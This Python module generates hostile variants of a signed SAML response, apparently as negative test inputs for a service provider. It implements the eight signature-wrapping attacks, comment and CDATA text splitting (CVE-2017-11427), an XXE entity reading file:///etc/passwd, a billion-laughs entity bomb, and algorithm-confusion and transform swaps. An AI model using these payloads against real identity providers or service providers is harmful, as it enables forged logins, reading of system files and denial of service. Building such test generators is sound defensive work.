"""Hostile variants of a genuine signed SAML response: wrapped signatures, split texts, entities, missing signatures.

Each function takes the bytes of a response and answers those of another that no service provider may believe, or whose
forged part it may not read. The signed octets stay as they were, so that the signature itself remains good: the eight
shapes are those of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), numbered as testing tools do.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from xml.parsers import expat

_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
_DS = "http://www.w3.org/2000/09/xmldsig#"
_FORGED_ID = b"id-forged-by-the-attacker"


class NotWrappable(Exception):
    """The response has no signature at the place that this attack needs."""


@dataclass(frozen=True, slots=True)
class _Span:
    """Where an element stands: `start` to `end`; its content begins at `inside`, its end tag at `closing`."""

    start: int
    inside: int
    closing: int
    end: int

    def of(self, document: bytes) -> bytes:
        return document[self.start : self.end]


def _spans(document: bytes, name: str) -> list[_Span]:
    """Every element of this name (namespace and local name with a blank), outermost first."""
    found: list[list[int]] = []
    is_open: list[list[int]] = []
    parser = expat.ParserCreate(namespace_separator=" ")

    def enter(tag: str, _attributes: object) -> None:
        if tag == name:
            start = parser.CurrentByteIndex
            place = [start, _end_of_tag(document, start), 0, 0]
            found.append(place)
            is_open.append(place)

    def leave(tag: str) -> None:
        if tag == name:
            place, closing = is_open.pop(), parser.CurrentByteIndex
            place[2:] = closing, _end_of_tag(document, closing)

    parser.StartElementHandler, parser.EndElementHandler = enter, leave
    parser.Parse(document, True)
    return [_Span(*place) for place in found]


def _end_of_tag(document: bytes, start: int) -> int:
    """The index behind the `>` of a tag, whatever its attributes hold."""
    found = re.compile(rb"""<(?:[^"'>]|"[^"]*"|'[^']*')*>""").match(document, start)
    return found.end() if found else len(document)


def _child_signature(document: bytes, parent: _Span) -> _Span:
    inner = [one for kind in ("Assertion",) for one in _spans(document, f"{_SAML} {kind}") if one != parent]
    for signature in _spans(document, f"{_DS} Signature"):
        is_within = parent.start < signature.start < parent.end
        if is_within and not any(parent.start < one.start < signature.start < one.end for one in inner):
            return signature
    raise NotWrappable("this part of the response is not signed")


def _root(document: bytes) -> _Span:
    return _spans(document, f"{_SAMLP} Response")[0]


def _assertion(document: bytes) -> _Span:
    found = _spans(document, f"{_SAML} Assertion")
    if not found:
        raise NotWrappable("there is no assertion in clear")
    return found[0]


def _without(document: bytes, *spans: _Span) -> bytes:
    for span in sorted(spans, key=lambda one: one.start, reverse=True):
        document = document[: span.start] + document[span.end :]
    return document


def _forged(element: bytes, old: bytes, new: bytes) -> bytes:
    """A copy of an element that says something else, under an ID of its own."""
    return _renamed(element.replace(old, new))


def _renamed(element: bytes) -> bytes:
    return re.sub(rb'(<[^>]*?\sID=)(["\'])[^"\']*\2', rb"\1\2" + _FORGED_ID + rb"\2", element, count=1)


def _signed_response(document: bytes) -> tuple[_Span, _Span, bytes]:
    """The root, its signature, and the root without that signature."""
    root = _root(document)
    signature = _child_signature(document, root)
    return root, signature, _without(document, signature)[root.start :]


def _signed_assertion(document: bytes) -> tuple[_Span, _Span, bytes]:
    """The assertion, its signature, and the assertion without that signature."""
    assertion = _assertion(document)
    signature = _child_signature(document, assertion)
    bare = document[assertion.start : signature.start] + document[signature.end : assertion.end]
    return assertion, signature, bare


def _declared(element: bytes, document: bytes) -> bytes:
    """An element with the namespace declarations of the root, so that it can stand anywhere."""
    root = _root(document)
    declarations = re.findall(
        rb'\sxmlns(?::[\w.-]+)?=(?:"[^"]*"|\'[^\']*\')', document[root.start : root.inside]
    )
    start_tag = element[: _end_of_tag(element, 0)]
    missing = [one for one in declarations if one.split(b"=")[0].strip() + b"=" not in start_tag]
    name = re.match(rb"<[^\s/>]+", element)
    at = name.end() if name else 1
    return element[:at] + b"".join(missing) + element[at:]


def xsw1(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged response around the genuine one, which hides behind the signature's parts."""
    root, signature, bare = _signed_response(genuine)
    inner = signature.closing
    forged = genuine[: root.start] + _forged(genuine[root.start : root.end], old, new)
    wrapped = _child_signature(forged, _root(forged))
    moved = genuine[signature.start : inner] + bare + genuine[inner : signature.end]
    return forged[: wrapped.start] + moved + forged[wrapped.end :]


def xsw2(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged response with the genuine one before the signature, which stands apart."""
    root, signature, bare = _signed_response(genuine)
    forged = genuine[: root.start] + _forged(genuine[root.start : root.end], old, new)
    wrapped = _child_signature(forged, _root(forged))
    return forged[: wrapped.start] + bare + signature.of(genuine) + forged[wrapped.end :]


def xsw3(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion before the genuine one."""
    assertion, _, bare = _signed_assertion(genuine)
    return genuine[: assertion.start] + _forged(bare, old, new) + genuine[assertion.start :]


def xsw4(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion that has the genuine one inside."""
    assertion, _, bare = _signed_assertion(genuine)
    forged = _forged(bare, old, new)
    closing = forged.rindex(b"</")
    wrapped = forged[:closing] + assertion.of(genuine) + forged[closing:]
    return genuine[: assertion.start] + wrapped + genuine[assertion.end :]


def xsw5(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion with the genuine signature, and the genuine assertion without it at the end."""
    assertion, _, bare = _signed_assertion(genuine)
    root = _root(genuine)
    forged = _forged(assertion.of(genuine), old, new)
    return (
        genuine[: assertion.start]
        + forged
        + genuine[assertion.end : root.closing]
        + bare
        + genuine[root.closing :]
    )


def xsw6(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion with the genuine signature, and the genuine assertion within that signature."""
    assertion, signature, bare = _signed_assertion(genuine)
    nested = genuine[signature.start : signature.closing] + bare + genuine[signature.closing : signature.end]
    head = _forged(genuine[assertion.start : signature.start], old, new)
    tail = genuine[signature.end : assertion.end].replace(old, new)
    return genuine[: assertion.start] + head + nested + tail + genuine[assertion.end :]


def xsw7(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion within Extensions, where schemas allow anything."""
    assertion, _, bare = _signed_assertion(genuine)
    wrapped = (
        f'<ext:Extensions xmlns:ext="{_SAMLP}">'.encode() + _forged(bare, old, new) + b"</ext:Extensions>"
    )
    return genuine[: assertion.start] + wrapped + genuine[assertion.start :]


def xsw8(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion with the genuine signature, and the genuine assertion in an Object of it."""
    assertion, signature, bare = _signed_assertion(genuine)
    hidden = f'<obj:Object xmlns:obj="{_DS}">'.encode() + bare + b"</obj:Object>"
    nested = (
        genuine[signature.start : signature.closing] + hidden + genuine[signature.closing : signature.end]
    )
    head = _forged(genuine[assertion.start : signature.start], old, new)
    tail = genuine[signature.end : assertion.end].replace(old, new)
    return genuine[: assertion.start] + head + nested + tail + genuine[assertion.end :]


WRAPPINGS: dict[str, Callable[[bytes, bytes, bytes], bytes]] = {
    "XSW1": xsw1,
    "XSW2": xsw2,
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}
OF_THE_RESPONSE = frozenset({"XSW1", "XSW2"})


def twice_the_same_id(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """A forged assertion under the genuine one's ID, before it."""
    assertion, _, bare = _signed_assertion(genuine)
    return genuine[: assertion.start] + bare.replace(old, new) + genuine[assertion.start :]


def second_assertion(genuine: bytes) -> bytes:
    """The genuine assertion, and the same again."""
    assertion = _assertion(genuine)
    return genuine[: assertion.end] + assertion.of(genuine) + genuine[assertion.end :]


def no_assertion(genuine: bytes) -> bytes:
    """A response that says nothing."""
    return _without(genuine, _assertion(genuine))


def unsigned(genuine: bytes) -> bytes:
    """The same without any signature."""
    return _without(genuine, *_spans(genuine, f"{_DS} Signature"))


def tampered(genuine: bytes, old: bytes, new: bytes) -> bytes:
    """Another text under the old signature."""
    return genuine.replace(old, new)


def split_by_comment(genuine: bytes, text: bytes, kept: int) -> bytes:
    """Each `text` with a comment behind its first `kept` octets: a careless reader sees only those (CVE-2017-11427)."""
    return genuine.replace(text, text[:kept] + b"<!-- -->" + text[kept:])


def split_by_instruction(genuine: bytes, text: bytes, kept: int) -> bytes:
    """The same with a processing instruction."""
    return genuine.replace(text, text[:kept] + b"<?x y?>" + text[kept:])


def split_by_cdata(genuine: bytes, text: bytes, kept: int) -> bytes:
    """The same with a CDATA section, which canonical XML dissolves."""
    return genuine.replace(text, text[:kept] + b"<![CDATA[" + text[kept:] + b"]]>")


def external_entity(genuine: bytes, text: bytes, url: str = "file:///etc/passwd") -> bytes:
    """Each `text` replaced by an entity that a reader would fetch."""
    doctype = f'<!DOCTYPE r [<!ENTITY e SYSTEM "{url}">]>'.encode()
    return _with_doctype(genuine.replace(text, b"&e;"), doctype)


def entity_bomb(genuine: bytes, text: bytes) -> bytes:
    """Each `text` replaced by an entity that grows to a billion signs."""
    nested = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE r [<!ENTITY e0 "0123456789">{nested}]>'.encode()
    return _with_doctype(genuine.replace(text, b"&e9;"), doctype)


def empty_doctype(genuine: bytes) -> bytes:
    """The same with a DTD that does nothing yet."""
    return _with_doctype(genuine, b"<!DOCTYPE r>")


def _with_doctype(document: bytes, doctype: bytes) -> bytes:
    start = _root_start(document)
    return document[:start] + doctype + document[start:]


def _root_start(document: bytes) -> int:
    found = re.search(rb"<[^?!]", document)
    return found.start() if found else 0


def other_encoding(genuine: bytes) -> bytes:
    """The same in UTF-16, for readers that look at the octets first."""
    text = genuine[_root_start(genuine) :].decode("utf-8")
    return text.encode("utf-16")


def other_version(genuine: bytes) -> bytes:
    """The same as XML 1.1, whose line ends and control characters readers treat in different ways."""
    return b'<?xml version="1.1" encoding="UTF-8"?>' + genuine[_root_start(genuine) :]


def other_algorithm(genuine: bytes, algorithm: str) -> bytes:
    """Each signature said to be of another kind, such as an HMAC whose key would be the public key."""
    pattern = rb'(<[^>]*SignatureMethod[^>]*Algorithm=")[^"]*'
    return re.sub(pattern, rb"\g<1>" + algorithm.encode("ascii"), genuine)


def other_transform(genuine: bytes, algorithm: str) -> bytes:
    """Each signature with a transform that could leave out what it likes."""
    pattern = rb'(<[^>]*Transform [^>]*Algorithm=")[^"]*exc-c14n[^"]*'
    return re.sub(pattern, rb"\g<1>" + algorithm.encode("ascii"), genuine)


def nested_deeply(genuine: bytes, depth: int = 10_000) -> bytes:
    """Extensions within Extensions, for readers that call themselves."""
    inner = f'<x xmlns="urn:x">{"<x>" * depth}{"</x>" * depth}</x>'
    assertion = _assertion(genuine)
    wrapped = f'<ext:Extensions xmlns:ext="{_SAMLP}">{inner}</ext:Extensions>'.encode()
    return genuine[: assertion.start] + wrapped + genuine[assertion.start :]
